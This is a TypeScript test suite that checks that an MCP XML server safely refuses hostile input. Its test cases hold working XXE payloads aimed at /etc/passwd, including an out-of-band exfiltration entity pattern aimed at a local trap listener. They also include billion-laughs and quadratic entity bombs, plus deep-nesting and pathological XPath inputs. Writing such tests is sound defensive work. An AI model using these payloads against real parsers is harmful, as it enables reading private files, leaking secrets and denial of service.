/**
 * Hostile input through the real server (docs/behaviour.md §1.1, §1.7, §6; issue 4 "A hostile-input test
 * suite"). Every document is generated here. Each case checks three things: the call ends in a
 * clear `isError` or a safe answer, nothing was read from disk or the network, and the same
 * server then answers a normal query correctly.
 *
 * "Nothing read": the answers must not contain `root:` (the first line of /etc/passwd) nor a
 * random marker written to canary files this suite creates; "no socket": every http URL points
 * at a local TCP listener that counts connections, and it must count none.
 *
 * The main server runs one worker, so a hostile call that left libxml2 corrupt without the
 * worker being replaced would make the very next normal query fail.
 */

import { randomUUID } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { type AddressInfo, createServer as createTcpServer, type Server as TcpServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { Client } from '@modelcontextprotocol/client';
import { InMemoryTransport } from '@modelcontextprotocol/server';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { EnginePool } from '../src/engine/runtime/pool.js';
import { createServer } from '../src/server.js';

type Result = Awaited<ReturnType<Client['callTool']>>;

const MiB = 1024 * 1024;
const LIMIT = 8 * MiB;
const FAST_TIMEOUT_MS = 1500;
const MARKER = `CANARY-${randomUUID()}`;
const XSD_NS = 'http://www.w3.org/2001/XMLSchema';

let main: Client;
let fast: Client;
const pools: EnginePool[] = [];
let trap: TcpServer;
const connections: string[] = [];
let port = 0;
let canaryDir = '';

async function connect(engine: EnginePool): Promise<Client> {
  pools.push(engine);
  const server = createServer(engine);
  const [clientSide, serverSide] = InMemoryTransport.createLinkedPair();
  await server.connect(serverSide);
  const client = new Client({ name: 'hostile-test', version: '1.0.0' });
  await client.connect(clientSide);
  return client;
}

beforeAll(async () => {
  trap = createTcpServer((socket) => {
    connections.push(`${socket.remoteAddress}:${socket.remotePort}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => trap.listen(0, '127.0.0.1', resolve));
  port = (trap.address() as AddressInfo).port;

  canaryDir = mkdtempSync(join(tmpdir(), 'oxml-hostile-'));
  writeFileSync(join(canaryDir, 'secret.txt'), `${MARKER}-text\n`);
  writeFileSync(join(canaryDir, 'secret.xml'), `<secret>${MARKER}-xml</secret>\n`);
  writeFileSync(
    join(canaryDir, 'secret.dtd'),
    `<!ENTITY leak "${MARKER}-dtd-entity">\n<!ATTLIST r leak CDATA "${MARKER}-dtd-default">\n`,
  );
  writeFileSync(
    join(canaryDir, 'secret.xsd'),
    `<xs:schema xmlns:xs="${XSD_NS}"><xs:element name="${MARKER.replaceAll('-', '_')}"/></xs:schema>\n`,
  );

  main = await connect(new EnginePool({ size: 1 }));
  fast = await connect(new EnginePool({ size: 1, timeoutMs: FAST_TIMEOUT_MS }));
});

afterAll(async () => {
  await main?.close();
  await fast?.close();
  await Promise.all(pools.map((pool) => pool.close()));
  await new Promise<void>((resolve) => (trap ? trap.close(() => resolve()) : resolve()));
  if (canaryDir) rmSync(canaryDir, { recursive: true, force: true });
});

afterEach(() => {
  // Checked after every case too, so a late connection is pinned on the case that caused it.
  expect(connections, 'connections received by the trap listener').toEqual([]);
});

const call = (client: Client, name: string, args: Record<string, unknown>) =>
  client.callTool({ name, arguments: args }) as Promise<Result>;
const text = (result: Result) =>
  (result.content as Array<{ type: string; text: string }>).map((part) => part.text).join('\n');

/** Neither /etc/passwd nor any canary file shows anywhere in the answer. */
function expectNothingRead(result: Result): void {
  const everything = JSON.stringify(result);
  expect(everything).not.toContain('root:');
  expect(everything).not.toContain(MARKER);
  expect(everything).not.toContain(MARKER.replaceAll('-', '_'));
}

/** The same server still answers a normal query right, and no socket was ever opened. */
async function expectServing(client: Client = main): Promise<void> {
  const result = await call(client, 'xml_query', {
    xml: '<r><t>a</t><t>b</t></r>',
    xpath: 'concat(count(//t), //t[2])',
  });
  expect(text(result)).toBe('2b');
  expect(result.isError).toBeFalsy();
  expect(connections).toEqual([]);
}

function expectClearError(result: Result, ...patterns: RegExp[]): void {
  expect(result.isError, text(result)).toBe(true);
  const message = text(result);
  expect(message.length).toBeGreaterThan(20);
  for (const pattern of patterns) expect(message).toMatch(pattern);
}

// ---------------------------------------------------------------------------------------------
// Nothing is fetched: XXE, external DTDs, XInclude, schema locations
// ---------------------------------------------------------------------------------------------

const PERMISSIVE_XSD = `<xs:schema xmlns:xs="${XSD_NS}"><xs:element name="r"/></xs:schema>`;

interface Target {
  name: string;
  url: () => string;
}

const targets: Target[] = [
  { name: 'file:///etc/passwd', url: () => 'file:///etc/passwd' },
  { name: 'an absolute path to /etc/passwd', url: () => '/etc/passwd' },
  { name: 'a canary file', url: () => pathToFileURL(join(canaryDir, 'secret.txt')).href },
  { name: 'the trap listener (http)', url: () => `http://127.0.0.1:${port}/x` },
  { name: 'a closed port (http://127.0.0.1:1/x)', url: () => 'http://127.0.0.1:1/x' },
];

interface XmlCase {
  name: string;
  xml: (target: string) => string;
}

const xmlCases: XmlCase[] = [
  {
    name: 'a general external entity in content',
    xml: (t) => `<!DOCTYPE r [<!ENTITY x SYSTEM "${t}">]><r>&x;</r>`,
  },
  {
    name: 'a general external entity declared PUBLIC',
    xml: (t) => `<!DOCTYPE r [<!ENTITY x PUBLIC "-//X//Y//EN" "${t}">]><r>&x;</r>`,
  },
  {
    name: 'an external parameter entity in the internal subset',
    xml: (t) => `<!DOCTYPE r [<!ENTITY % p SYSTEM "${t}"> %p;]><r>&leak;</r>`,
  },
  {
    name: 'the out-of-band exfiltration pattern (parameter entities)',
    xml: (t) =>
      `<!DOCTYPE r [<!ENTITY % file SYSTEM "${t}">` +
      `<!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM 'http://127.0.0.1:${port}/?d=%file;'>">` +
      '%eval; %exfil;]><r/>',
  },
  {
    name: 'an external entity in an attribute value',
    xml: (t) => `<!DOCTYPE r [<!ENTITY x SYSTEM "${t}">]><r a="&x;"/>`,
  },
  {
    name: 'an external entity in an attribute default',
    xml: (t) => `<!DOCTYPE r [<!ENTITY x SYSTEM "${t}"><!ATTLIST r a CDATA "&x;">]><r/>`,
  },
  {
    name: 'an internal entity that refers to an external one',
    xml: (t) => `<!DOCTYPE r [<!ENTITY x SYSTEM "${t}"><!ENTITY y "[&x;]">]><r>&y;</r>`,
  },
  {
    name: 'an external DTD (SYSTEM)',
    xml: (t) => `<!DOCTYPE r SYSTEM "${t}"><r>&leak;</r>`,
  },
  {
    name: 'an external DTD (PUBLIC)',
    xml: (t) => `<!DOCTYPE r PUBLIC "-//X//Y//EN" "${t}"><r/>`,
  },
  {
    name: 'XInclude of XML',
    xml: (t) => `<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="${t}"/></r>`,
  },
  {
    name: 'XInclude of text',
    xml: (t) => `<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="${t}" parse="text"/></r>`,
  },
  {
    name: 'an xsi:schemaLocation hint',
    xml: (t) =>
      `<r xmlns="urn:x" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x ${t}"/>`,
  },
  {
    name: 'an xsi:noNamespaceSchemaLocation hint',
    xml: (t) =>
      `<r xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="${t}"/>`,
  },
];

/** Every tool that reads the `xml` argument, with arguments that would show any leaked text. */
const readers: Array<{ tool: string; args: (xml: string) => Record<string, unknown> }> = [
  { tool: 'xml_query', args: (xml) => ({ xml, xpath: 'string(/)' }) },
  { tool: 'xml_query', args: (xml) => ({ xml, xpath: '//@*' }) },
  { tool: 'xml_check', args: (xml) => ({ xml }) },
  { tool: 'xml_inspect', args: (xml) => ({ xml }) },
  { tool: 'xml_format', args: (xml) => ({ xml, indent: 2 }) },
  { tool: 'xml_validate', args: (xml) => ({ xml, xsd: PERMISSIVE_XSD }) },
];

describe('nothing is fetched from files or the network', () => {
  it('still expands internal entities (control: the tools do substitute entities)', async () => {
    const result = await call(main, 'xml_query', {
      xml: '<!DOCTYPE r [<!ENTITY e "expanded">]><r>&e;</r>',
      xpath: 'string(/r)',
    });
    expect(text(result)).toBe('expanded');
  });

  describe.each(xmlCases)('$name', ({ xml }) => {
    it.each(targets)('pointing at $name', async (target) => {
      const doc = xml(target.url());
      for (const reader of readers) {
        const result = await call(main, reader.tool, reader.args(doc));
        expectNothingRead(result);
        // An external entity reads as empty text, so `string(/)` may answer "": a safe answer.
        expect(result.content).toBeDefined();
      }
      await expectServing();
    });
  });

  const schemaCases: Array<{ name: string; xsd: (target: string) => string }> = [
    {
      name: 'xs:include',
      xsd: (t) => `<xs:schema xmlns:xs="${XSD_NS}"><xs:include schemaLocation="${t}"/></xs:schema>`,
    },
    {
      name: 'xs:import with a schemaLocation',
      xsd: (t) =>
        `<xs:schema xmlns:xs="${XSD_NS}"><xs:import namespace="urn:other" schemaLocation="${t}"/>` +
        '<xs:element name="r"/></xs:schema>',
    },
    {
      name: 'xs:redefine',
      xsd: (t) =>
        `<xs:schema xmlns:xs="${XSD_NS}"><xs:redefine schemaLocation="${t}"/><xs:element name="r"/></xs:schema>`,
    },
    {
      name: 'xs:override',
      xsd: (t) =>
        `<xs:schema xmlns:xs="${XSD_NS}"><xs:override schemaLocation="${t}"/><xs:element name="r"/></xs:schema>`,
    },
  ];

  describe.each(schemaCases)('an XSD with $name', ({ xsd }) => {
    it.each(targets)('pointing at $name is refused, naming the location', async (target) => {
      const result = await call(main, 'xml_validate', { xml: '<r/>', xsd: xsd(target.url()) });
      expectClearError(result, /`xsd`/, /xs:include\/xs:import/, /never fetched|inline/i);
      expect(text(result)).toContain(target.url());
      expectNothingRead(result);
      await expectServing();
    });
  });

  it('an XSD with xs:import by namespace only (no location) fetches nothing', async () => {
    const xsd =
      `<xs:schema xmlns:xs="${XSD_NS}"><xs:import namespace="http://127.0.0.1:${port}/ns"/>` +
      '<xs:element name="r"/></xs:schema>';
    const result = await call(main, 'xml_validate', { xml: '<r/>', xsd });
    expectNothingRead(result);
    expect(text(result).length).toBeGreaterThan(0);
    await expectServing();
  });

  it.each(targets)('an XSD carrying external entities and an external DTD ($name)', async (target) => {
    const t = target.url();
    const xsd =
      `<!DOCTYPE xs:schema SYSTEM "${t}" [<!ENTITY x SYSTEM "${t}">]>` +
      `<xs:schema xmlns:xs="${XSD_NS}"><xs:annotation><xs:documentation>&x;</xs:documentation></xs:annotation>` +
      '<xs:element name="r"><xs:simpleType><xs:restriction base="xs:string"><xs:enumeration value="ok"/>' +
      '</xs:restriction></xs:simpleType></xs:element></xs:schema>';
    const result = await call(main, 'xml_validate', { xml: '<r>not ok</r>', xsd });
    expectNothingRead(result);
    expect(text(result).length).toBeGreaterThan(0);
    await expectServing();
  });
});

// ---------------------------------------------------------------------------------------------
// Expansion, size, depth, names, attributes
// ---------------------------------------------------------------------------------------------

const allTools = (xml: string): Array<[string, Record<string, unknown>]> => [
  ['xml_query', { xml, xpath: 'string-length(/)' }],
  ['xml_check', { xml }],
  ['xml_inspect', { xml }],
  ['xml_format', { xml, indent: 2 }],
  ['xml_validate', { xml, xsd: PERMISSIVE_XSD }],
];

const billionLaughs = (() => {
  const lines = ['<!ENTITY lol0 "lol">'];
  for (let i = 1; i <= 9; i++) lines.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
  return `<?xml version="1.0"?><!DOCTYPE r [${lines.join('')}]><r>&lol9;</r>`;
})();

const quadratic = `<!DOCTYPE r [<!ENTITY a "${'x'.repeat(100_000)}">]><r>${'&a;'.repeat(2_000)}</r>`;

describe('expansion bombs', () => {
  it.each([
    ['billion laughs', billionLaughs],
    ['quadratic blow-up (a 100 KB entity referenced 2,000 times)', quadratic],
  ])('%s: refused by every tool that expands entities; none answers a huge text', async (_name, xml) => {
    for (const [tool, args] of allTools(xml)) {
      const result = await call(main, tool, args);
      // xml_format keeps entity references as written, so it may answer: the answer stays small.
      if (tool === 'xml_format' && !result.isError) {
        expect(text(result).length).toBeLessThan(xml.length * 2);
        continue;
      }
      expectClearError(result, /amplification|expands its entities/);
      expect(text(result).length).toBeLessThan(2_000);
    }
    await expectServing();
  });
});

describe('size limits (8 MiB as UTF-8 bytes)', () => {
  /** A well-formed document of exactly `bytes` UTF-8 bytes with `count(//a)` known. */
  function documentOf(bytes: number): { xml: string; as: number } {
    const head = '<r>';
    const tail = '</r>';
    const unit = '<a/>';
    const room = bytes - head.length - tail.length;
    const as = Math.floor(room / unit.length);
    const pad = room - as * unit.length;
    const xml = head + unit.repeat(as) + ' '.repeat(pad) + tail;
    return { xml, as };
  }

  it('accepts a document of exactly 8 MiB', async () => {
    const { xml, as } = documentOf(LIMIT);
    expect(Buffer.byteLength(xml)).toBe(LIMIT);
    const result = await call(main, 'xml_query', { xml, xpath: 'count(//a)' });
    expect(result.isError, text(result)).toBeFalsy();
    expect(text(result)).toBe(String(as));
    await expectServing();
  });

  it('refuses 8 MiB + 1 byte in every tool, naming the argument and the limit', async () => {
    const { xml } = documentOf(LIMIT + 1);
    expect(Buffer.byteLength(xml)).toBe(LIMIT + 1);
    for (const [tool, args] of allTools(xml)) {
      expectClearError(await call(main, tool, args), /`xml`/, /8388609 bytes/, /8388608/);
    }
    await expectServing();
  });

  it('counts UTF-8 bytes, not characters: 4.5 M two-byte characters are refused', async () => {
    const xml = `<r>${'é'.repeat(4_500_000)}</r>`;
    expect(xml.length).toBeLessThan(LIMIT);
    expectClearError(await call(main, 'xml_check', { xml }), /`xml`/, /8388608/);
    await expectServing();
  });

  it('refuses an 8 MiB + 1 byte schema, naming `xsd`', async () => {
    const xsd = `<xs:schema xmlns:xs="${XSD_NS}"><xs:element name="r"/>${' '.repeat(LIMIT)}</xs:schema>`;
    expect(Buffer.byteLength(xsd)).toBeGreaterThan(LIMIT);
    expectClearError(await call(main, 'xml_validate', { xml: '<r/>', xsd }), /`xsd`/, /8388608/);
    await expectServing();
  });
});

describe('structure bombs', () => {
  it('100,000-deep nesting is an isError naming the depth limit, in every tool', async () => {
    const xml = '<a>'.repeat(100_000) + '</a>'.repeat(100_000);
    for (const [tool, args] of allTools(xml)) {
      expectClearError(await call(main, tool, args), /depth limit of 256/);
    }
    await expectServing();
  });

  it('100,000-deep nesting in a schema is an isError too', async () => {
    const xsd =
      `<xs:schema xmlns:xs="${XSD_NS}"><xs:element name="r"/>` +
      '<xs:annotation><xs:appinfo>' +
      '<a>'.repeat(100_000) +
      '</a>'.repeat(100_000) +
      '</xs:appinfo></xs:annotation></xs:schema>';
    expectClearError(await call(main, 'xml_validate', { xml: '<r/>', xsd }), /`xsd`/, /depth/);
    await expectServing();
  });

  it('10^5 attributes on one element: a clear isError or an exact answer', async () => {
    const attributes = Array.from({ length: 100_000 }, (_, i) => ` a${i}="${i}"`).join('');
    const xml = `<r${attributes}/>`;
    const query = await call(main, 'xml_query', { xml, xpath: 'count(/r/@*)' });
    if (query.isError) expectClearError(query, /`xml`/, /attribute/i);
    else expect(text(query)).toBe('100000');
    for (const [tool, args] of allTools(xml)) {
      const result = await call(main, tool, args);
      if (result.isError) expectClearError(result, /attribute/i);
    }
    await expectServing();
  });

  it('a 60,000-character element name: a clear isError or an exact answer', async () => {
    const name = `n${'x'.repeat(59_999)}`;
    const xml = `<${name}>v</${name}>`;
    const query = await call(main, 'xml_query', { xml, xpath: 'string-length(name(/*))' });
    if (query.isError) expectClearError(query, /`xml`/, /name/i);
    else expect(text(query)).toBe('60000');
    for (const [tool, args] of allTools(xml)) {
      const result = await call(main, tool, args);
      if (result.isError) expectClearError(result, /name/i);
      else expect(text(result).length).toBeLessThan(200_000);
    }
    await expectServing();
  });

  it('a lone surrogate in `xml` is an isError naming the argument, in every tool', async () => {
    for (const xml of ['<r>\uD800</r>', '<r a="\uDC00"/>', `<r>${'x'.repeat(1000)}\uDBFF</r>`]) {
      for (const [tool, args] of allTools(xml)) {
        expectClearError(await call(main, tool, args), /`xml`/, /surrogate/);
      }
    }
    await expectServing();
  });

  it('a lone surrogate in `xsd` is an isError naming the argument', async () => {
    const xsd = `<xs:schema xmlns:xs="${XSD_NS}"><xs:element name="r\uD800"/></xs:schema>`;
    expectClearError(await call(main, 'xml_validate', { xml: '<r/>', xsd }), /`xsd`/, /surrogate/);
    await expectServing();
  });

  it('a NUL character in `xml` is an isError', async () => {
    for (const [tool, args] of allTools('<r>a\0b</r>')) {
      expectClearError(await call(main, tool, args), /`xml`/);
    }
    await expectServing();
  });
});

// ---------------------------------------------------------------------------------------------
// Hostile XPath
// ---------------------------------------------------------------------------------------------

const SMALL = '<r><a><a><a/></a></a><b>1</b></r>';

describe('hostile XPath expressions are refused before libxml2, or answered', () => {
  const refused: Array<[string, string, RegExp]> = [
    ['5,000 flat + operators', `${'1+'.repeat(5_000)}1`, /2048/],
    ['5,000 flat | operators', `${'//a|'.repeat(5_000)}//a`, /2048/],
    ['5,000 flat "and" operators', `${'1 and '.repeat(5_000)}1`, /2048/],
    ['300 nested predicates', `//a${'[a'.repeat(300)}${']'.repeat(300)}`, /nests brackets 300 deep/],
    ['500 nested function calls', `${'not('.repeat(500)}1${')'.repeat(500)}`, /limit/],
    ['500 nested parentheses', `${'('.repeat(500)}1${')'.repeat(500)}`, /nests brackets 500 deep/],
    ['a NUL character', 'count(//a)\0 or 1', /NUL/],
    ['a lone surrogate', "string('\uD800')", /surrogate/],
    ['a lone low surrogate in a name test', '//a\uDC00', /surrogate/],
  ];

  it.each(refused)('%s: a clear isError naming `xpath`', async (_name, xpath, pattern) => {
    const result = await call(main, 'xml_query', { xml: SMALL, xpath });
    expectClearError(result, /`xpath`/, pattern);
    await expectServing();
  });

  // Just under the guard's bounds, the expression reaches libxml2: it must answer, never corrupt it.
  const answered: Array<[string, string, string]> = [
    ['1,000 flat + operators (just under the length limit)', `${'1+'.repeat(999)}1`, '1000'],
    ['510 flat unions', `count(${'//a|'.repeat(509)}//a)`, '3'],
    ['1,000 location steps', `count(${'/a'.repeat(1_000)})`, '0'],
    ['2,000 unary minus signs', `${'-'.repeat(2_000)}1`, '1'],
    ['31 nested predicates', `count(//a${'[a'.repeat(30)}${']'.repeat(30)})`, '0'],
    ['31 nested function calls', `${'not('.repeat(30)}true()${')'.repeat(30)}`, 'true'],
    ['30 nested parentheses of unions', `count(${'(//a|'.repeat(30)}//b${')'.repeat(30)})`, '4'],
  ];

  it.each(answered)('%s: answered exactly', async (_name, xpath, expected) => {
    expect(xpath.length).toBeLessThanOrEqual(2048);
    const result = await call(main, 'xml_query', { xml: SMALL, xpath });
    expect(result.isError, text(result)).toBeFalsy();
    expect(text(result)).toBe(expected);
    await expectServing();
  });

  it('several such expressions in a row leave the engine sound', async () => {
    for (const [, xpath, expected] of answered) {
      expect(text(await call(main, 'xml_query', { xml: SMALL, xpath }))).toBe(expected);
    }
    for (const [, xpath] of refused) {
      expect((await call(main, 'xml_query', { xml: SMALL, xpath })).isError).toBe(true);
    }
    await expectServing();
  });
});

describe('a pathological XPath on a ~5 MB document', () => {
  it('count(//*[count(//*) > 0]) ends in an isError naming a budget, then the server serves', async () => {
    // No clock is read: unstopped, the expression would run for hours, far past this test's
    // time-out, so ending at all shows that a budget stopped it.
    await expectServing(fast);
    const xml = `<r>${'<a><b/></a>'.repeat(460_000)}</r>`;
    expect(xml.length).toBeGreaterThan(5_000_000);
    const result = await call(fast, 'xml_query', { xml, xpath: 'count(//*[count(//*) > 0])' });
    // Whichever budget stops it first (libxml2's operation limit or the worker's deadline),
    // the answer says which one and how to narrow the expression.
    expectClearError(result, /(operation|time) budget/, /narrow/i);
    await expectServing(fast);
    // The same large document still answers a normal query (under the ordinary time budget: a
    // count of 5 MB may take longer than the short one on a loaded machine).
    expect(text(await call(main, 'xml_query', { xml, xpath: 'count(//b)' }))).toBe('460000');
  });

  it('an expression cheap in XPath steps but slow in string work is stopped by the time budget', async () => {
    await expectServing(fast);
    // Each predicate builds the 5 MB string-value of the whole document: few XPath steps,
    // hours of work, so only the worker deadline can stop it.
    const xml = `<r>${'<a>xxxxxxxx</a>'.repeat(340_000)}</r>`;
    expect(xml.length).toBeGreaterThan(5_000_000);
    const result = await call(fast, 'xml_query', {
      xml,
      xpath: "count(//a[contains(string(/), 'never')])",
    });
    expectClearError(result, new RegExp(`time budget of ${FAST_TIMEOUT_MS} ms`), /narrow/i);
    await expectServing(fast);
    // Under the ordinary time budget, as above: 5 MB can take longer than 1.5 s on a busy machine.
    expect(text(await call(main, 'xml_query', { xml, xpath: 'count(//a)' }))).toBe('340000');
  });
});
